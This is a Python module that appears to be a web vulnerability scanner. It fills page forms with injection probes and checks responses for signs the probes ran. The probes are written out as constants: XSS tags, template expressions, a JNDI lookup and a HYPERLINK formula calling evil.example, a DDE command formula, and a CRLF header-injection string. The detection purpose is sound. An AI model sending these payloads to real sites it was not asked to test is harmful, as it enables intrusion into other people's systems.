"""Text that does harm where something runs it, and what of an answer would show that something did."""

import csv
import io
import re
import zipfile
from html.parser import HTMLParser
from typing import Any, Final

import httpx2

MARK: Final = "mark7319"
MADE: Final = "51233"  # what 7319*7 is, where a template works it out
HTML: Final = (
    f"{MARK}\"'><img src=x onerror=alert(1)></textarea></title><script>alert(1)</script><svg onload=alert(1)>"
    "{{7319*7}}{% debug %}${7319*7}${jndi:ldap://evil.example/a}%s%n\u2028"
)
LINK: Final = f"javascript:alert('{MARK}')//{{{{7319*7}}}}"
FORMULA: Final = f'=HYPERLINK("https://evil.example/?{MARK}","2")+cmd|\' /C calc\'!A0'
BROKEN: Final = f'{MARK}\r\nX-Injected: 1\r\nSet-Cookie: injected=1\r\n\r\n{{"event": "forged"}}'
DAY: Final = "28/02/2023"
OF_DAYS: Final = "30"  # the length by which a form takes a day
LONGEST: Final = 10_000
HOSTILE: Final = (HTML, LINK, FORMULA, BROKEN)
FETCHING: Final = {"href", "src", "action", "formaction", "data", "poster", "srcset", "hx-get", "hx-post", "xlink:href"}
OWN_SCRIPTS: Final = ("/static/", "/lookup/code.js")
RUNNING: Final = {"iframe", "object", "embed", "base", "applet", "frame", "style", "math"}


class _Live(HTMLParser):
    """What of a page would run or lead somewhere by what people typed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in RUNNING or (tag == "script" and not given.get("src", "").startswith(OWN_SCRIPTS)):
            self.found.append(f"<{tag}>")
        for name, value in given.items():
            if name.startswith("on") or name == "style":
                self.found.append(f"<{tag} {name}>")
            if name in FETCHING and re.match(r"\s*(?:(?:java|vb)script:|data:|https?:|//|\\)", value, re.IGNORECASE):
                self.found.append(f"<{tag} {name}={value[:40]}>")
        if tag == "meta" and given.get("http-equiv", "").lower() == "refresh":
            self.found.append("<meta refresh>")


def harm_in(answer: httpx2.Response) -> list[str]:
    """What shows that something of it ran, or would run where it is opened."""
    media = answer.headers.get("content-type", "").partition(";")[0]
    found = [f"header {name}" for name, value in answer.headers.items() if re.search(r"[\r\n]", value)]
    found += [f"header {name}" for name in ("x-injected",) if name in answer.headers]
    found += ["cookie"] if "injected=1" in answer.headers.get("set-cookie", "") else []
    if not re.match(r"/(?![/\\])|$", answer.headers.get("location", "")):
        found.append(f"leads to {answer.headers['location'][:60]}")
    if media == "text/html":
        if "frame-ancestors 'none'" not in answer.headers.get("content-security-policy", ""):
            found.append("may be framed")
        page = _Live()
        page.feed(answer.text)
        found += page.found
    if media in ("text/html", "text/plain", "application/json", "application/problem+json") and MADE in answer.text:
        found.append("a template was worked out")
    if MARK in answer.text and media in ("text/html", "") and "nosniff" not in answer.headers.get("x-content-type-options", ""):
        found.append("may be sniffed")
    if media == "text/csv":
        found += _formulas(answer.content.decode("utf-8-sig"))
    if media.endswith("spreadsheetml.sheet"):
        with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
            sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")]
            found += [f"formula in {name}" for name in sheets if re.search(rb"<f[ >]|<hyperlink", book.read(name))]
    return found


def _formulas(text: str) -> list[str]:
    first = text.partition("\n")[0]
    rows = csv.reader(io.StringIO(text), delimiter=";" if first.count(";") > first.count(",") else ",")
    cells = [cell for row in rows for cell in row]
    return [f"formula {cell[:30]}" for cell in cells if re.match(r"[=+@\t\r]|-(?![\d., ]*%?$)", cell)]


class Form:
    """A form of a page: where it goes, what it carries, which of its fields take text, how long, and which a day or number."""

    def __init__(self, action: str, method: str, page: str) -> None:
        self.action, self.method, self.page = action or page, method or "get", page
        self.carried: dict[str, str] = {}
        self.typed: dict[str, int] = {}
        self.strict: dict[str, str] = {}
        self.files: list[str] = []

    @property
    def key(self) -> tuple[str, ...]:
        """What tells it from the other forms of all pages."""
        return (self.action.partition("?")[0], *self.typed, *self.strict)

    def filled(self, hostile: str, *, everywhere: bool = False) -> dict[str, str]:
        """What is sent of it: as much of the text as a field takes; days and numbers as they should be, or that `everywhere`."""
        text = {name: hostile[:longest] for name, longest in self.typed.items()}
        return {**self.carried, **(dict.fromkeys(self.strict, hostile) if everywhere else self.strict), **text}


class _Forms(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self._page, self._open, self._select = page, None, ""  # type: tuple[str, Form | None, str]
        self.forms: list[Form] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given: dict[str, Any] = {name: value or "" for name, value in attrs}
        name, form = given.get("name", ""), self._open
        if tag == "form":
            self._open = Form(given.get("action", ""), given.get("method", "").lower(), self._page)
            self.forms.append(self._open)
        elif form is None:
            pass
        elif tag == "select":
            self._select = name
        elif tag == "option" and self._select and given.get("value"):
            form.carried.setdefault(self._select, given["value"])
        elif tag == "textarea":
            form.typed[name] = int(given.get("maxlength") or LONGEST)
        elif tag in ("input", "button") and name:
            match given.get("type", "text" if tag == "input" else "submit"):
                case "hidden" | "radio" | "checkbox" | "submit":
                    form.carried.setdefault(name, given.get("value", "on"))
                case "file":
                    form.files.append(name)
                case "password":
                    form.carried[name] = "x"
                case _ if given.get("inputmode") == "numeric":
                    form.strict[name] = given.get("value") or "1"
                case _ if given.get("maxlength") == OF_DAYS:
                    form.strict[name] = given.get("value") or DAY
                case _:
                    form.typed[name] = int(given.get("maxlength") or LONGEST)

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._open = None
        elif tag == "select":
            self._select = ""


def forms_of(shown: str, page: str) -> list[Form]:
    """Every form of a page."""
    read = _Forms(page)
    read.feed(shown)
    return read.forms
